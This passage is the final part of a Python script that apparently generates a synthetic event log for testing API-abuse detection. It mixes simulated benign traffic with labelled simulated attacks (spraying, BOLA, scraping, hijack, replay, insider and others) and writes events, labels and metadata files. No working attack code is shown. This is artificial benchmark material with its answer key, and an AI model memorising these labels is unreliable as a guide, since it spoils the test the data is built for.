while len(ACCS) < 60: household()
bots(); partners(); staff(); campaign()
nanon = R.randint(900, 1800)
for i in range(nanon):
    c = C('web', home(R.choice(['DE', 'GB', 'US']) if chance(.2) else None) if chance(.7) else fixed(R.choice(CGN)) if chance(.7) else R.choice(DORMS + OFFICES + HOTELS), 'anonymous-visitor', 'anon-%d' % i); anon_visit(c, when(R.randrange(DAYS), 'web'))
for i in range(R.randint(50, 130)):
    pl = R.choice(['web', 'ios', 'android', 'web']); st, v = att_of()
    c = C(pl, home() if chance(.75) else R.choice(DORMS), 'new-signup', 'new-%d' % i, att=st if pl != 'web' else 'none', ver=v if pl != 'web' else None); t = signup(c, when(R.randrange(DAYS), 'web'))
    t = gift(c, t) if chance(.25) else t; play(c, browse(c, t, 2), logn(20, .6)) if chance(.6) else browse(c, t, 2)
reserve = 9000 if DROP else 0
while len(EV) < BENIGN_BUDGET - reserve: household()
if DROP: drop()
NB = len(EV)
ALL = {'spray': spraying, 'bola': bola, 'bfla': bfla, 'signup': fakesign, 'scalp': scalping, 'scrape': scraping, 'flood': searchflood, 'scan': scanners, 'leak': leaked, 'repack': repackaged,
       'replay': replay, 'farm': farm, 'insider': insiders, 'poison': poisoning, 'spam': spam, 'rip': ripping, 'hijack': hijack}
SKIP = {R.choice(['pairing-code-enumeration', 'otp-bruteforce', 'x'])}
left_out = R.sample(['spray', 'flood', 'spam', 'rip', 'hijack', 'bfla', 'leak'], R.randint(1, 3))
stuffing(); codes()
for k, f in ALL.items():
    if k not in left_out: f()

EV.sort(key=lambda x: (x[0], x[1])); kinds = collections.Counter(); seen = set()
mailv = {e: (t, u) for u, (t, e) in VICT.items()}
with open(OUT + '/events.ndjson', 'w') as fe, open(OUT + '/labels.ndjson', 'w') as fl:
    for ms, _, e, l, (u, s) in EV:
        while True:
            i = hexs(16)
            if i not in seen: seen.add(i); break
        if l['label'] == 'benign':
            tv = VICT[u][0] if u in VICT else mailv[s][0] if s in mailv else None
            if tv and ms / 1000 >= tv and not l['caller'].startswith('staff'): l['victim'] = True
        fe.write(json.dumps({'event_id': i, **e}, separators=(',', ':')) + '\n'); fl.write(json.dumps({'event_id': i, **l}, separators=(',', ':')) + '\n'); kinds[(l['label'], l['kind'])] += 1
json.dump({'seed': SEED, 'days': DAYS, 'accounts': len(ACCS), 'country': COUNTRY, 'heartbeat_s': HB, 'attests': round(ATTEST, 2), 'ios': round(P_IOS, 2), 'dormant_sdk_missing': DORMANT, 'drop': DROP and TDROP, 'outage': OUTAGE, 'incident': INCIDENT, 'ja4': HAS_JA4, 'geo': HAS_GEO, 'asn': HAS_ASN, 'login_sets_user': LOGIN_SETS_USER, 'left_out': left_out + list(SKIP),
           'events': len(EV), 'attack_share': round((len(EV) - NB) / len(EV), 4), 'kinds': {'/'.join(k): n for k, n in sorted(kinds.items())}, 'instances': dict(NI)}, open(OUT + '/world.json', 'w'), indent=1)
